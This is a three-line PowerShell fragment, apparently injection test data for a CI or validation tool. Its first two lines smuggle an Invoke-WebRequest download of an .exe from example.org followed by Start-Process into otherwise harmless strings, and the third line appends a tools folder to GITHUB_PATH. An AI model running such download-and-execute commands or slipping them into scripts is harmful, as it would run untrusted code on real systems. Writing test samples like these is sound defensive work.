$null = '| Out-File x'; Invoke-WebRequest https://example.org/x.exe -OutFile x.exe; Start-Process .\x.exe
"a"; Invoke-WebRequest https://example.org/y.exe -OutFile y.exe; Start-Process .\y.exe; "b" | Should -ReturnZeroExitCode
"$env:RUNNER_TEMP\tools" | Out-File -Append -FilePath $env:GITHUB_PATH
